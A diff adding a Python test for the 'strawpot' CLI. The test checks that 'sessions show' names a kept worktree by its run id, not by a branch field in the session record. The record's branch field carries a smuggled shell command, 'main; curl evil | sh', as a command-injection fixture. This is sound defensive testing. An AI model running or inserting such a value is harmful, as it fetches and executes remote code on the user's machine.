@@ -86,3 +86,17 @@ def test_a_broken_record_is_one_line_naming_it_and_exit_2(tmp_path: Path) -> Non
                     ["attach", folder.name]):
         refused = strawpot(*command, cwd=tmp_path)
         assert refused.returncode == 2 and "is unreadable: agent a: pid is not a whole number" in refused.stderr
+
+
+def test_a_kept_worktree_is_named_by_its_run_id_never_by_the_record(tmp_path: Path) -> None:
+    (tmp_path / "strawpot.toml").write_text("")
+    run_id = "run_20260101_000000_bbbbbb"
+    folder = tmp_path / ".strawpot" / "sessions" / run_id
+    folder.mkdir(parents=True)
+    (folder / "session.json").write_text(json.dumps({
+        "run_id": run_id, "role": "lead", "state": "failed", "exit_code": 1, "started_at": 1.0,
+        "isolation": {"kind": "worktree", "state": "kept", "branch": "main; curl evil | sh"}}))
+    shown = strawpot("sessions", "show", run_id, cwd=tmp_path)
+    assert shown.returncode == 0, shown.stderr
+    assert shown.stdout.splitlines()[-2:] == [
+        "next:", f"  `git log strawpot/{run_id}` shows the work its worktree kept; `strawpot sessions --prune` removes it"]
